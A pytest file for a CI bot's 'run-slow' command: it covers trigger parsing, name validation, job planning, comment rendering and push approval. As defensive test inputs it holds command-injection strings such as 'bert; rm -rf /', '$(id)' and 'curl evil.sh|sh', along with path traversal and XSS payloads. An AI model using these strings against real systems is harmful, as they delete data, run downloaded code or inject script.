"""The `run-slow` planner and its renderers: parsing, selection, jobs, reminder, the comment and
the replies; pure, no GitHub."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import pytest

from bot.store.deliveries import PushRecord
from handlers.slow_ci.plan import (
    MACHINE_TYPES,
    MIN_SHA_LENGTH,
    DroppedName,
    Failure,
    JobResult,
    JobSpec,
    MergeCommit,
    PushApproval,
    SelectedFolder,
    Selection,
    Trigger,
    check_name,
    comment_approval,
    estimate,
    models_added,
    overall_state,
    parse_commit_message_trigger,
    parse_trigger,
    plan_jobs,
    plan_reminder,
    push_approval,
    pushes_since_approval,
    select_folders,
)
from handlers.slow_ci.render import (
    MAX_FAILURES_SHOWN,
    RUN_STARTED_SENTENCE,
    approval_line,
    cannot_tell_reply,
    error_description,
    not_authorised_reply,
    nothing_selectable_reply,
    reminder_comment,
    render_comment,
    slack_summary,
    stale_comment_reply,
    status_description,
    unapproved_push_reply,
    untraced_push_reply,
)

SHA = "c0ffee" + "0" * 34
TESTS = frozenset(
    {
        "tests/models/bert",
        "tests/models/gpt2",
        "tests/models/llama",
        "tests/models/mamba",
        "tests/models/rm",
        "tests/quantization/bnb",
        "tests/generation",
        "tests/models",
        "tests/quantization",
    }
)
MARKER = "<!-- maintainer-bot:run-slow:o/r#7 -->"
RUN_URL = "http://bot.test/runs/12"


def names(body):
    trigger = parse_trigger(body)
    return None if trigger is None else trigger.names


# --------------------------------------------------------------------------- trigger


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("run-slow: bert, gpt2", ("bert", "gpt2")),
        ("run-slow:bert", ("bert",)),
        ("run-slow : bert", ("bert",)),
        ("run-slow::bert", ("bert",)),
        ("run-slow: bert,gpt2", ("bert", "gpt2")),
        ("run-slow: bert ,, gpt2 ,", ("bert", "gpt2")),
        ("run-slow bert gpt2", ("bert", "gpt2")),
        ("run-slow,bert", ("bert",)),
        ("   run-slow:\t bert  \t gpt2   ", ("bert", "gpt2")),
        ("RUN-SLOW: BERT, Gpt2", ("bert", "gpt2")),
        ("run_slow: bert", ("bert",)),
        ("run slow: bert", ("bert",)),
        ("Run Slow bert", ("bert",)),
        ("run-slow:", ()),
        ("run-slow", ()),
        ("\n\nrun-slow: bert\n", ("bert",)),
        ("run-slow: bert, bert", ("bert", "bert")),  # de-duplicated by the selection
    ],
)
def test_trigger_reads_the_names_the_way_people_write_them(body, expected):
    assert names(body) == expected


@pytest.mark.parametrize(
    "body",
    [
        None,
        "",
        "   ",
        "please run-slow: bert",
        "lgtm\nrun-slow: bert",
        "> run-slow: bert",
        ">run-slow: bert",
        "```\nrun-slow: bert\n```",
        "`run-slow: bert`",
        "~~~\nrun-slow: bert\n~~~",
        "run-slowly would be nice",
        "run-slow-bert",
        "runslow: bert",
        "run - slow: bert",
    ],
)
def test_text_that_is_not_a_trigger_at_the_start_triggers_nothing(body):
    assert parse_trigger(body) is None


@pytest.mark.parametrize(
    "body",
    [
        "    run-slow: bert",
        "\trun-slow: bert",
        "  \trun-slow: bert",
        "\n\n     run-slow: bert\nmore",
        "\r\n    run-slow: bert\r\n",
    ],
)
def test_an_indented_code_block_is_quoted_code_not_a_trigger(body):
    assert parse_trigger(body) is None


def test_up_to_three_spaces_of_indent_is_still_a_paragraph():
    assert names("   run-slow: bert") == ("bert",)
    assert names("\n \n  run-slow: bert") == ("bert",)


def test_inline_code_and_an_html_comment_do_not_trigger():
    assert parse_trigger("`run-slow: bert`") is None
    assert parse_trigger("<!-- run-slow: bert -->") is None
    assert parse_trigger("<!--\nrun-slow: bert\n-->") is None


def test_only_the_first_line_names_models():
    body = "run-slow: bert\nThis touches attention, so gpt2 might break too.\r\nllama as well"
    assert names(body) == ("bert",)


def test_windows_line_endings_do_not_leak_into_names():
    assert names("run-slow: bert\r\nsecond line") == ("bert",)


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("run-slow --failed", Trigger((), failed_only=True)),
        ("run-slow: --failed", Trigger((), failed_only=True)),
        ("run-slow --FAILED bert", Trigger(("bert",), failed_only=True)),
        ("run-slow: bert", Trigger(("bert",), failed_only=False)),
        ("run-slow --fail", Trigger(("--fail",), failed_only=False)),
    ],
)
def test_failed_flag_is_a_flag_not_a_name(body, expected):
    assert parse_trigger(body) == expected


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (f"run-slow: bert sha={SHA}", Trigger(("bert",), sha=SHA)),
        (f"run-slow: bert, gpt2 SHA={SHA.upper()}", Trigger(("bert", "gpt2"), sha=SHA)),
        (f"run-slow sha={SHA[:12]}, bert", Trigger(("bert",), sha=SHA[:12])),
        (f"run-slow --failed sha={SHA}", Trigger((), failed_only=True, sha=SHA)),
        ("run-slow: bert sha=1a2b3c4", Trigger(("bert",), sha="1a2b3c4")),  # judged later
        ("run-slow: bert sha=", Trigger(("bert",), sha="")),
        (f"run-slow: bert sha={SHA} sha=0{SHA[1:]}", Trigger(("bert", f"sha=0{SHA[1:]}"), sha=SHA)),
        ("run-slow: bert\nsha=1234567890ab", Trigger(("bert",))),  # the first line only
    ],
)
def test_sha_names_the_approved_commit_on_the_first_line(body, expected):
    assert parse_trigger(body) == expected


def test_a_second_sha_is_dropped_as_a_name_with_a_reason():
    trigger = parse_trigger(f"run-slow: bert sha={SHA} sha=abc")
    (dropped,) = select(listed=trigger.names).dropped
    assert dropped.name == "sha=abc" and "not a valid name" in dropped.reason


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        ("[run-slow] bert, gpt2", ("bert", "gpt2")),
        ("[run_slow] bert", ("bert",)),
        ("[run slow] bert", ("bert",)),
        ("[RUN-SLOW]: Bert,GPT2\n\nlonger explanation naming llama", ("bert", "gpt2")),
        ("[run-slow]", ()),
        ("[run-slow] --failed", ("--failed",)),  # a comment-only flag: here an invalid name
    ],
)
def test_commit_message_trigger_reads_the_first_line(message, expected):
    trigger = parse_commit_message_trigger(message)
    assert trigger is not None
    assert trigger.names == expected
    assert trigger.failed_only is False


@pytest.mark.parametrize(
    "message",
    [None, "", "fix bert [run-slow] bert", "run-slow: bert", "Fix typo\n\n[run-slow] bert"],
)
def test_commit_message_without_the_bracket_prefix_first_triggers_nothing(message):
    assert parse_commit_message_trigger(message) is None


# --------------------------------------------------------------------------- names


@pytest.mark.parametrize("name", ["bert", "gpt2", "t5", "x", "Bert", "llama_3", "a_b_c", "9b"])
def test_valid_names(name):
    assert check_name(name) is None


@pytest.mark.parametrize(
    "name",
    [
        "",
        "_bert",
        "bert_",
        "_",
        "bert;",
        "bert-base",
        "../../x",
        "models/bert",
        "$(id)",
        "`id`",
        "bert\n",
        "b\x00ert",
        "bеrt",  # Cyrillic е
        "ｂｅｒｔ",  # fullwidth letters
        "bert²",  # a superscript digit: str.isdigit says yes
        "x" * 101,
    ],
)
def test_invalid_names_have_a_reason(name):
    reason = check_name(name)
    assert isinstance(reason, str)
    assert reason


def test_a_name_of_the_maximum_length_is_valid():
    assert check_name("x" * 100) is None


# --------------------------------------------------------------------------- models added


def entry(filename, status, previous=None):
    data = {"filename": filename, "status": status}
    if previous:
        data["previous_filename"] = previous
    return data


def test_an_added_modeling_file_adds_its_model():
    files = [
        entry("model_lib/models/mamba/__init__.py", "added"),
        entry("model_lib/models/mamba/modeling_mamba.py", "added"),
        entry("model_lib/models/zeta/modeling_zeta.py", "added"),
    ]
    assert models_added(files) == ("mamba", "zeta")


@pytest.mark.parametrize(
    "files",
    [
        [entry("model_lib/models/bert/modeling_bert.py", "modified")],
        [entry("model_lib/models/bert/modeling_bert.py", "removed")],
        [entry("model_lib/models/bert/modeling_other.py", "added")],  # not modeling_<name>
        [entry("model_lib/models/bert/configuration_bert.py", "added")],
        [entry("model_lib/models/x/y/modeling_y.py", "added")],  # nested deeper
        [entry("elsewhere/model_lib/models/bert/modeling_bert.py", "added")],
        [entry("model_lib/models/bert/modeling_bert.pyc", "added")],
        [],
    ],
)
def test_changes_that_add_no_model(files):
    assert models_added(files) == ()


def test_a_rename_to_a_new_model_name_counts_as_added():
    files = [
        entry(
            "model_lib/models/llama3/modeling_llama3.py",
            "renamed",
            "model_lib/models/llama/modeling_llama.py",
        )
    ]
    assert models_added(files) == ("llama3",)


def test_a_copied_modeling_file_counts_as_added():
    assert models_added([entry("model_lib/models/gpt3/modeling_gpt3.py", "copied")]) == ("gpt3",)


def test_models_added_takes_objects_and_a_custom_models_dir():
    class File:
        def __init__(self, filename, status):
            self.filename, self.status = filename, status

    files = [File("src/models/mamba/modeling_mamba.py", "added")]
    assert models_added(files, "src/models/") == ("mamba",)
    assert models_added(files) == ()


def test_a_model_added_twice_is_listed_once():
    files = [entry("model_lib/models/mamba/modeling_mamba.py", "added")] * 2
    assert models_added(files) == ("mamba",)


# --------------------------------------------------------------------------- selection


def select(added=(), listed=(), tests=TESTS, **kwargs):
    return select_folders(added, listed, tests, **kwargs)


def test_new_model_first_then_listed_names_in_order():
    selection = select(["mamba"], ["gpt2", "bert"])
    assert selection.folders == (
        SelectedFolder("mamba", "models/mamba", "model", "added by this PR"),
        SelectedFolder("gpt2", "models/gpt2", "model", "listed"),
        SelectedFolder("bert", "models/bert", "model", "listed"),
    )
    assert selection.dropped == ()
    assert not selection.empty


def test_duplicates_run_once_with_the_first_reason():
    selection = select(["mamba"], ["bert", "mamba", "bert", "nope", "nope"])
    assert selection.paths == ("models/mamba", "models/bert")
    assert selection.folders[0].reason == "added by this PR"
    assert [d.name for d in selection.dropped] == ["nope"]


def test_quantizations_and_suites_are_their_own_lists():
    selection = select(listed=["bert", "bnb", "generation"])
    assert selection.models == ("models/bert",)
    assert selection.quantizations == ("quantization/bnb",)
    assert selection.suites == ("generation",)
    assert [f.kind for f in selection.folders] == ["model", "quantization", "suite"]


def test_a_model_folder_wins_over_a_suite_of_the_same_name():
    selection = select(listed=["bert"], tests=TESTS | {"tests/bert"})
    assert selection.paths == ("models/bert",)


def test_a_name_without_a_test_folder_is_dropped_with_the_sha():
    selection = select(listed=["nonexistent"], at=SHA)
    assert selection.empty
    (dropped,) = selection.dropped
    assert dropped.name == "nonexistent"
    assert "tests/models/nonexistent" in dropped.reason
    assert "tests/nonexistent" in dropped.reason
    assert SHA[:12] in dropped.reason


@pytest.mark.parametrize("name", ["models", "quantization"])
def test_the_list_containers_are_not_suites(name):
    selection = select(listed=[name])
    assert selection.empty
    assert selection.dropped[0].name == name


@pytest.mark.parametrize(
    "body",
    [
        "run-slow: bert; rm -rf /",
        "run-slow: ../../x",
        "run-slow: $(id)",
        "run-slow: `id`",
        "run-slow: bert&&curl evil.sh|sh",
        "run-slow: ../models/bert",
        "run-slow: models/bert",
        "run-slow: bеrt",
        "run-slow: ｂｅｒｔ",
    ],
)
def test_injection_attempts_never_reach_a_folder(body):
    selection = select(listed=parse_trigger(body).names)
    for folder in selection.folders:
        assert re.fullmatch(r"(models/|quantization/)?[a-z0-9_]+", folder.folder)
        assert folder.name in {"rm"}  # the only valid token of all these with a test folder
    assert all(d.reason for d in selection.dropped)


def test_bert_semicolon_rm_rf_keeps_only_names_with_test_folders():
    listed = parse_trigger("run-slow: bert; rm -rf /").names
    assert listed == ("bert;", "rm", "-rf", "/")
    without_rm = select(listed=listed, tests=TESTS - {"tests/models/rm"})
    assert without_rm.empty
    assert [d.name for d in without_rm.dropped] == ["bert;", "rm", "-rf", "/"]
    assert "no tests/models/rm" in without_rm.dropped[1].reason
    with_rm = select(listed=listed)
    assert with_rm.paths == ("models/rm",)  # a real folder: as harmless as any model's tests


def test_an_invalid_added_model_is_dropped_too():
    selection = select(["_private"], [])
    assert selection.empty
    assert selection.dropped[0].name == "_private"


def test_the_existence_check_can_be_a_predicate():
    asked = []

    def exists(path):
        asked.append(path)
        return path == "tests/quantization/bnb"

    selection = select(listed=["bnb", "bad;name"], tests=exists)
    assert selection.paths == ("quantization/bnb",)
    assert asked == ["tests/models/bnb", "tests/quantization/bnb"]  # invalid names never asked


def test_a_single_path_string_is_refused_as_the_existence_check():
    with pytest.raises(TypeError):
        select(listed=["bert"], tests="tests/models/bert")


def test_names_past_the_folder_limit_are_dropped_not_cut():
    selection = select(listed=["bert", "gpt2", "llama"], max_folders=2)
    assert selection.paths == ("models/bert", "models/gpt2")
    assert selection.dropped == (DroppedName("llama", "over the limit of 2 folders a run"),)


def test_selection_summary_lists_folders_and_dropped_names():
    summary = select(["mamba"], ["nope"]).summary()
    assert summary.splitlines()[0] == "models/mamba (added by this PR)"
    assert summary.splitlines()[1].startswith("dropped 'nope': no tests/models/nope")


# --------------------------------------------------------------------------- jobs


def test_one_job_per_folder_and_machine_type_with_the_reference_names():
    jobs = plan_jobs(select(listed=["bert", "bnb"]))
    assert MACHINE_TYPES == ("single-gpu", "multi-gpu")
    assert [(j.folder, j.machine_type) for j in jobs] == [
        ("models/bert", "single-gpu"),
        ("models/bert", "multi-gpu"),
        ("quantization/bnb", "single-gpu"),
        ("quantization/bnb", "multi-gpu"),
    ]
    assert jobs[0].name == "single-gpu_run_models_gpu_models_bert"
    assert jobs[3].report_name == "multi-gpu_run_models_gpu_quantization_bnb_test_reports"


def test_an_empty_selection_has_no_jobs():
    assert plan_jobs(Selection()) == ()


@pytest.mark.parametrize(
    ("past", "expected"),
    [
        ({}, None),
        ({"models/bert": []}, None),
        ({"models/bert": [60, 100, 9000]}, 400.0),  # median 100, four jobs (one unknown folder)
        ({"models/bert": [60], "models/gpt2": [120]}, 360.0),
    ],
)
def test_estimate_sums_the_median_per_job(past, expected):
    jobs = plan_jobs(select(listed=["bert", "gpt2"]))
    assert estimate(past, jobs) == expected


# --------------------------------------------------------------------------- reminder


def test_a_pr_touching_model_code_and_tests_is_reminded_with_the_line_to_paste():
    files = [
        entry("model_lib/models/bert/modeling_bert.py", "modified"),
        entry("tests/models/gpt2/test_modeling_gpt2.py", "modified"),
        entry("model_lib/models/bert/modeling_tf_bert.py", "modified"),
        entry("docs/bert.md", "modified"),
    ]
    reminder = plan_reminder(files, draft=False)
    assert reminder is not None
    assert reminder.models == ("bert", "gpt2")
    assert reminder.line == "run-slow: bert, gpt2"
    body = reminder_comment(reminder, marker=MARKER)
    assert body.startswith(MARKER + "\n")
    assert "\n```\nrun-slow: bert, gpt2\n```\n" in body
    assert parse_trigger(reminder.line).names == ("bert", "gpt2")


@pytest.mark.parametrize(
    ("files", "draft"),
    [
        ([entry("model_lib/models/bert/modeling_bert.py", "modified")], True),
        ([entry("docs/bert.md", "modified"), entry("README.md", "added")], False),
        ([entry("model_lib/models/bert/configuration_bert.py", "modified")], False),
        ([entry("tests/models/bert/conftest.py", "modified")], False),
        ([entry("model_lib/models/bert/modeling_bert.py", "removed")], False),
        ([], False),
    ],
)
def test_no_reminder_for_drafts_or_prs_not_touching_models(files, draft):
    assert plan_reminder(files, draft=draft) is None


def test_reminder_leaves_out_models_without_tests():
    files = [
        entry("model_lib/models/bert/modeling_bert.py", "modified"),
        entry("model_lib/models/newish/modeling_newish.py", "added"),
    ]
    reminder = plan_reminder(files, draft=False, test_dir_exists=TESTS)
    assert reminder.models == ("bert",)
    only_new = plan_reminder(files[1:], draft=False, test_dir_exists=TESTS)
    assert only_new is None


def test_reminder_names_at_most_sixteen_models():
    files = [entry(f"tests/models/m{i}/test_modeling_m{i}.py", "modified") for i in range(20)]
    reminder = plan_reminder(files, draft=False)
    assert len(reminder.models) == 16
    assert reminder.more == 4
    assert "and 4 more" in reminder_comment(reminder)


# --------------------------------------------------------------------------- results


def result(job, state, **kwargs):
    return JobResult(job, state, **kwargs)


BERT1, BERT2 = JobSpec("models/bert", "single-gpu"), JobSpec("models/bert", "multi-gpu")


@pytest.mark.parametrize(
    ("states", "expected"),
    [
        ((), "pending"),
        (("queued", "queued"), "pending"),
        (("passed", "running"), "pending"),
        (("failed", "running"), "pending"),  # the status only turns when every job ended
        (("passed", "passed"), "success"),
        (("passed", "skipped"), "success"),
        (("skipped", "skipped"), "success"),
        (("passed", "failed"), "failure"),
        (("passed", "error"), "failure"),
        (("passed", "timed_out"), "failure"),
        (("passed", "cancelled"), "failure"),
    ],
)
def test_overall_state(states, expected):
    jobs = [JobSpec(f"models/m{i}", "single-gpu") for i in range(len(states))]
    assert overall_state([result(j, s) for j, s in zip(jobs, states, strict=True)]) == expected


def test_an_unknown_job_state_is_refused():
    with pytest.raises(ValueError, match="unknown job state"):
        JobResult(BERT1, "succeeded")


def test_status_description_is_the_spec_wording_while_pending():
    assert status_description([result(BERT1, "running")]) == "Slow CI job"


def test_status_description_counts_jobs_at_the_end():
    results = [
        *(result(JobSpec(f"models/m{i}", "single-gpu"), "passed") for i in range(4)),
        result(BERT1, "failed"),
        result(BERT2, "timed_out"),
    ]
    assert status_description(results) == "Slow CI job: 4 passed, 1 failed, 1 timed out"


def test_status_descriptions_fit_githubs_limit():
    many = [
        result(JobSpec(f"models/m{i}", "single-gpu"), state)
        for i, state in enumerate(["passed", "failed", "error", "timed_out", "cancelled"] * 999)
    ]
    assert len(status_description(many)) <= 140
    assert len(error_description("checkout failed: " + "x" * 500)) <= 140
    moved = error_description("head moved\nto abc")
    assert moved == "Slow CI job: could not run: head moved to abc"


# --------------------------------------------------------------------------- the comment


SELECTION = Selection(
    (
        SelectedFolder("bert", "models/bert", "model", "listed"),
        SelectedFolder("bnb", "quantization/bnb", "quantization", "listed"),
    ),
    (DroppedName("bad;name", "not a valid name: only ASCII letters, digits and `_` are allowed"),),
)
JOBS = plan_jobs(SELECTION)


def render(phase, **kwargs):
    kwargs.setdefault("jobs", JOBS)
    return render_comment(
        marker=MARKER, selection=SELECTION, run_url=RUN_URL, phase=phase, sha=SHA, **kwargs
    )


def table_rows(body):
    return [line for line in body.splitlines() if line.startswith("| `")]


def cells(row):
    """A table row's cells, split the way GFM splits them: on every `|` not escaped."""
    return re.split(r"(?<!\\)\|", row.strip().strip("|"))


@pytest.mark.parametrize(
    ("phase", "kwargs"),
    [
        ("started", {}),
        ("queued", {"queue_position": 2, "estimate_seconds": 170}),
        ("running", {"results": [result(BERT1, "running")]}),
        ("finished", {"results": [result(j, "passed") for j in JOBS]}),
        ("superseded", {"superseded_by": "http://bot.test/runs/13"}),
        ("error", {"error": "the head moved before the checkout"}),
    ],
)
def test_every_state_starts_with_the_marker_and_the_reference_sentence(phase, kwargs):
    body = render(phase, **kwargs)
    assert body.startswith(MARKER + "\n" + RUN_STARTED_SENTENCE + "\n")
    assert "models: `models/bert`" in body
    assert "quantizations: `quantization/bnb`" in body
    assert RUN_URL in body
    assert SHA[:12] in body
    assert "`bad;name`" in body  # dropped names in every state


def test_empty_lists_read_none():
    only_model = Selection((SelectedFolder("bert", "models/bert", "model", "listed"),))
    body = render_comment(marker="", selection=only_model, run_url=RUN_URL, phase="started")
    assert "quantizations: none" in body
    assert body.startswith(RUN_STARTED_SENTENCE)


def test_started_lists_every_job():
    rows = table_rows(render("started"))
    assert [[c.strip() for c in cells(r)[:2]] for r in rows] == [
        [f"`{j.folder}`", f"`{j.machine_type}`"] for j in JOBS
    ]


def test_queued_shows_position_and_estimate():
    body = render("queued", queue_position=3, estimate_seconds=190)
    assert "position 3" in body
    assert "about 3 min" in body


def test_running_shows_each_jobs_state():
    results = [result(JOBS[0], "passed", passed=3, duration=5), result(JOBS[1], "running")]
    body = render("running", results=results)
    assert "1 of 2 jobs done" in body  # the jobs with results
    rows = table_rows(body)
    assert "passed" in rows[0]
    assert "running" in rows[1]
    assert "queued" in rows[2]


def test_final_table_shows_counts_durations_and_reasons():
    results = [
        result(JOBS[0], "passed", passed=10, skipped=2, duration=63),
        result(JOBS[1], "skipped", reason="no GPU for multi-gpu jobs"),
        result(JOBS[2], "failed", passed=3, failed=2, errors=1, duration=3700),
        result(JOBS[3], "timed_out", passed=1, duration=600, reason="timed out after 10 min"),
    ]
    body = render("finished", results=results)
    assert "**Finished, failed**" in body
    rows = [[c.strip() for c in cells(r)] for r in table_rows(body)]
    assert [len(r) for r in rows] == [8] * 4
    # passed, failed, errors, skipped, duration
    assert rows[0][3:] == ["10", "0", "0", "2", "1 min 3 s"]
    assert "no GPU for multi-gpu jobs" in rows[1][2] and rows[1][3:] == ["–"] * 5
    assert rows[2][3:] == ["3", "2", "1", "0", "1 h 1 min"]
    assert "timed out after 10 min" in rows[3][2] and rows[3][3:7] == ["1", "0", "0", "0"]
    (total,) = [line for line in body.splitlines() if line.startswith("| **total**")]
    assert [c.strip() for c in cells(total)][3:] == ["14", "2", "1", "2", "1 h 12 min"]


HOSTILE = "tests/models/bert/test_x.py::test_<script>alert(1)</script>|x`y``z[@alice](http://evil)"


def failures_block(body):
    match = re.search(r"\n(`{3,})\n(.*?)\n\1\n", body, re.DOTALL)
    assert match, body
    return match.group(2)


def test_hostile_test_names_stay_inside_one_code_block():
    failure = Failure(HOSTILE, "AssertionError: ```` | <b>boom</b>\nsecond line never shown")
    body = render("finished", results=[result(JOBS[0], "failed", failed=1, failures=(failure,))])
    block = failures_block(body)
    assert HOSTILE in block
    assert "second line" not in body
    outside = body.replace(block, "")
    assert "<script>" not in outside
    assert "@alice" not in outside


def test_pipes_in_names_do_not_break_the_table():
    dropped = Selection(SELECTION.folders, (DroppedName("a|b", "listed | twice"),))
    job = JobSpec("models/bert", "single-gpu")
    bad = result(job, "error", reason="pytest crashed | <img src=x onerror=alert(1)> @bob")
    body = render_comment(
        marker=MARKER, selection=dropped, run_url=RUN_URL, phase="finished", results=[bad]
    )
    (row,) = table_rows(body)
    assert len(cells(row)) == 8
    assert "<img" not in body
    assert "@bob" not in body
    assert "`a|b`" in body


def test_long_failure_lists_are_capped_and_lines_cut():
    failures = tuple(Failure(f"tests/models/bert/test_{i}.py::t", "x" * 1000) for i in range(25))
    body = render("finished", results=[result(JOBS[0], "failed", failed=25, failures=failures)])
    block = failures_block(body)
    assert block.count("::t [single-gpu]") == MAX_FAILURES_SHOWN
    assert "First 10 of 25 failures" in body
    assert max(len(line) for line in block.splitlines()) <= 210


def test_superseded_links_the_newer_run():
    body = render("superseded", superseded_by="http://bot.test/runs/13")
    assert "**Superseded**" in body
    assert "(http://bot.test/runs/13)" in body


def test_error_gives_the_reason_and_no_table():
    body = render("error", error="checkout failed: <fatal> could not read")
    assert "**Could not run**: checkout failed: &lt;fatal&gt; could not read" in body
    assert table_rows(body) == []


def test_an_error_comment_needs_a_reason():
    with pytest.raises(ValueError):
        render("error")


def test_hundreds_of_dropped_names_are_capped():
    dropped = tuple(DroppedName("n" * 500 + str(i), "no tests/models") for i in range(300))
    body = render_comment(
        marker="", selection=Selection((), dropped), run_url=RUN_URL, phase="started"
    )
    assert "and 280 more" in body
    assert len(body) < 5000


def test_failed_only_runs_say_so():
    assert "only the jobs that failed" in render("started", failed_only=True)


# --------------------------------------------------------------------------- Slack and replies


def test_slack_summary_is_short_and_escapes_the_title():
    results = [result(JOBS[0], "passed"), result(JOBS[1], "failed")]
    message = slack_summary(
        repo="o/r",
        number=7,
        title="<!channel> fix",
        pull_url="https://github.test/o/r/pull/7",
        run_url=RUN_URL,
        results=results,
        sha=SHA,
    )
    assert message["text"] == "run-slow failed on o/r#7: 1 passed, 1 failed"
    (block,) = message["blocks"]
    text = block["text"]["text"]
    assert "<!channel>" not in text
    assert "&lt;!channel&gt;" in text
    assert JOBS[1].name in text
    assert JOBS[0].name not in text


def test_not_authorised_reply_names_who_may_without_pinging_them():
    reply = not_authorised_reply("mallory", ["alice", "@bob"], "maintain")
    assert "\n" not in reply
    assert reply.startswith("@mallory")
    assert "`alice`" in reply
    assert "`bob`" in reply
    assert "@bob" not in reply
    assert "`maintain`" in reply


def test_not_authorised_reply_without_an_allow_list():
    assert "`write` permission" in not_authorised_reply("mallory", [])


def test_stale_comment_reply_asks_for_a_new_run_slow():
    reply = stale_comment_reply(SHA)
    assert SHA[:12] in reply
    assert "`run-slow`" in reply
    assert "nothing ran" in reply


def test_nothing_selectable_reply_lists_dropped_names():
    reply = nothing_selectable_reply(select(listed=["nope", "_x"]), marker=MARKER)
    assert reply.startswith(MARKER + "\n")
    assert "`nope`" in reply
    assert "`_x`" in reply
    assert "run-slow: bert, gpt2" in reply


def test_unapproved_push_reply_asks_a_maintainer_to_approve():
    reply = unapproved_push_reply(SHA, "eve")
    assert SHA[:12] in reply
    assert "@eve" in reply
    assert "maintainer" in reply


# --------------------------------------------------------------------------- approval

OTHER = "0badc0de" + "1" * 32
BASE = "ba5e" + "2" * 36
COMMENTED = datetime(2026, 1, 1, 12, 0, 0, tzinfo=UTC)
AT = COMMENTED.timestamp()


def push(sha, at, sender="carol", action="synchronize", before=None):
    return PushRecord(sha, at, sender, action, before)


def merge(parents=(BASE, SHA), committer="GitHub", at=AT - 60, ready=True):
    return MergeCommit("3e" * 20, parents, committer, datetime.fromtimestamp(at, UTC), ready)


def verdict(pushes=(), **kwargs):
    return comment_approval(head_sha=SHA, commented_at=COMMENTED, pushes=pushes, **kwargs).verdict


@pytest.mark.parametrize(
    ("pushes", "expected"),
    [
        ([push(SHA, AT - 60, action="opened")], "approved"),
        ([push(OTHER, AT - 90, action="opened"), push(SHA, AT - 60, before=OTHER)], "approved"),
        # Pushed after the comment, whatever dates its commits carry.
        ([push(OTHER, AT - 60, action="opened"), push(SHA, AT + 1, before=OTHER)], "stale"),
        # Received within the comment's second: GitHub's time is to the second, so after it.
        ([push(SHA, AT, action="opened")], "stale"),
        # Back to a commit that was the head once: the latest time it became the head counts.
        (
            [
                push(SHA, AT - 90, action="opened"),
                push(OTHER, AT - 60, before=SHA),
                push(SHA, AT + 30, before=OTHER),
            ],
            "stale",
        ),
        # The record ends on another head: a push back to this one went unrecorded.
        ([push(SHA, AT - 90, action="opened"), push(OTHER, AT - 60, before=SHA)], "unknown"),
        ([], "unknown"),
        ([push(OTHER, AT - 60, action="opened")], "unknown"),
    ],
)
def test_the_bots_record_of_pushes_decides_a_comment(pushes, expected):
    assert verdict(pushes) == expected


@pytest.mark.parametrize(
    ("test_merge", "expected"),
    [
        (merge(), "approved"),
        (merge(at=AT), "unknown"),  # not older than the comment: the head may have moved since
        (merge(at=AT + 60), "unknown"),
        (merge(parents=(BASE, OTHER)), "unknown"),  # an earlier head's merge
        (merge(parents=(SHA,)), "unknown"),
        (merge(parents=(SHA, BASE)), "unknown"),
        (merge(committer="carol"), "unknown"),
        (merge(ready=False), "unknown"),  # GitHub is still making the merge
        (None, "unknown"),
    ],
)
def test_githubs_test_merge_decides_when_there_is_no_record(test_merge, expected):
    assert verdict(merge=test_merge) == expected


def test_a_record_wins_over_the_test_merge():
    late_push = [push(SHA, AT + 5, action="opened")]
    assert verdict(late_push, merge=merge()) == "stale"


@pytest.mark.parametrize(
    ("named", "pushes", "expected"),
    [
        (SHA, [], "approved"),
        (SHA[:MIN_SHA_LENGTH], [], "approved"),
        (SHA[:MIN_SHA_LENGTH], [push(OTHER, AT - 60, action="opened")], "approved"),
        (OTHER, [], "stale"),
        (OTHER[:MIN_SHA_LENGTH], [], "stale"),
        # An abbreviation matched by a commit pushed after the comment is not what was read.
        (SHA[:MIN_SHA_LENGTH], [push(SHA, AT + 5, before=OTHER)], "stale"),
        (SHA[: MIN_SHA_LENGTH - 1], [], "unknown"),  # seven characters are brute-forced
        ("", [], "unknown"),
        ("zz" * 10, [], "unknown"),
        (SHA + "0", [], "unknown"),
    ],
)
def test_a_comment_naming_a_sha_approves_that_commit_only(named, pushes, expected):
    assert verdict(pushes, named_sha=named, merge=merge()) == expected


def test_a_malformed_sha_is_explained_as_code():
    approval = comment_approval(head_sha=SHA, commented_at=COMMENTED, pushes=[], named_sha="`@here")
    assert approval.verdict == "unknown"
    assert "`` sha=`@here ``" in approval.reason
    assert f"at least {MIN_SHA_LENGTH}" in approval.reason


H0, H1, H2, H3 = (f"{i:02d}" * 20 for i in range(4))


OPENED = push(H0, 1, action="opened")


@pytest.mark.parametrize(
    ("head", "pushes", "approved", "expected"),
    [
        (H1, [OPENED, push(H1, 2, "maint", before=H0)], {H0}, (H1,)),
        (H2, [OPENED, push(H1, 2, before=H0), push(H2, 3, "maint", before=H1)], {H0}, (H2, H1)),
        # The chain follows `before`, not the order deliveries arrived in.
        (H2, [OPENED, push(H2, 2, "maint", before=H1), push(H1, 3, before=H0)], {H0}, (H2, H1)),
        # A push back to approved content is approved content.
        (
            H2,
            [OPENED, push(H1, 2, before=H0), push(H0, 3, before=H1), push(H2, 4, before=H0)],
            {H0},
            (H2,),
        ),
        (H1, [OPENED, push(H1, 2, before=H0)], {H1}, ()),
        # No approved head in reach: an opened record, a missing one, a cycle.
        (H1, [OPENED, push(H1, 2, before=H0)], set(), None),
        (H1, [push(H1, 2, before=H0)], {H3}, None),
        (H2, [push(H1, 1, before=H2), push(H2, 2, before=H1)], {H3}, None),
        (H1, [], {H0}, None),
    ],
)
def test_pushes_since_approval_walk_back_to_an_approved_head(head, pushes, approved, expected):
    chain = pushes_since_approval(head, pushes, approved)
    assert (None if chain is None else tuple(p.sha for p in chain)) == expected


def test_a_push_runs_only_when_every_pusher_since_the_approval_may_approve():
    chain = (push(H2, 3, "Maint"), push(H1, 2, "reader"), push(H3, 1, "reader"))
    assert push_approval(chain, {"maint"}) == PushApproval("refused", ("reader",))
    assert push_approval(chain[:1], {"maint"}) == PushApproval("approved")
    assert push_approval((), set()) == PushApproval("approved")
    assert push_approval(None, {"maint"}) == PushApproval("unknown")
    mixed = (push(H2, 3, "eve"), push(H1, 2, "reader"))
    assert push_approval(mixed, ()).refused == ("reader", "eve")  # in push order


# --------------------------------------------------------------------------- approval replies


def test_cannot_tell_reply_gives_the_line_that_names_the_head():
    reply = cannot_tell_reply(SHA, parse_trigger("run-slow: bert, gpt2, ../x"), "no record")
    line = f"run-slow: bert, gpt2 sha={SHA}"
    assert f"```\n{line}\n```" in reply
    assert "Nothing ran" in reply and "(no record)" in reply and SHA[:12] in reply
